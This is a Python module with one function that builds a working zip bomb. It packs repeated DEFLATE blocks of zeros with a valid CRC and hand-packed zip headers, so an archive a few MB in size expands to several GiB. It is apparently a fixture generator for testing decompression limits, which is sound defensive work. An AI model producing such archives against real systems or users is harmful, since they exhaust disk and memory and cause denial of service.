"""A real zip bomb, built in a second: one member of many GiB of zeros in a few MB of zip.

The DEFLATE stream is made of one compressed block of zeros repeated: after a full flush the
compressor starts afresh, so the same input gives the same bytes, and only one block is ever
compressed. The CRC is computed over the zeros for real, so the archive is valid to the end.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

_BLOCK_BYTES = 64 * 1024 * 1024


def write_zip_bomb(path: Path, *, size_bytes: int = 3 * 1024**3, name: str = "zeros.bin") -> Path:
    """Write a zip at ``path`` whose one member ``name`` expands to ``size_bytes`` zeros (< 4 GiB)."""
    if not 0 < size_bytes < 2**32 or size_bytes % _BLOCK_BYTES:
        raise ValueError(f"size must be a multiple of {_BLOCK_BYTES} under 4 GiB")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(_BLOCK_BYTES)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)
    count = size_bytes // _BLOCK_BYTES
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(zeros, crc)
    compressed = len(block) * count + len(tail)
    raw_name = name.encode()
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, compressed, size_bytes, len(raw_name), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20,
        20,
        0,
        8,
        0,
        0x21,
        crc,
        compressed,
        size_bytes,
        len(raw_name),
        0,
        0,
        0,
        0,
        0o644 << 16,
        0,
    )
    with open(path, "wb") as out:
        out.write(local + raw_name)
        for _ in range(count):
            out.write(block)
        out.write(tail)
        central_at = out.tell()
        out.write(central + raw_name)
        central_size = out.tell() - central_at
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, central_size, central_at, 0))
    return path
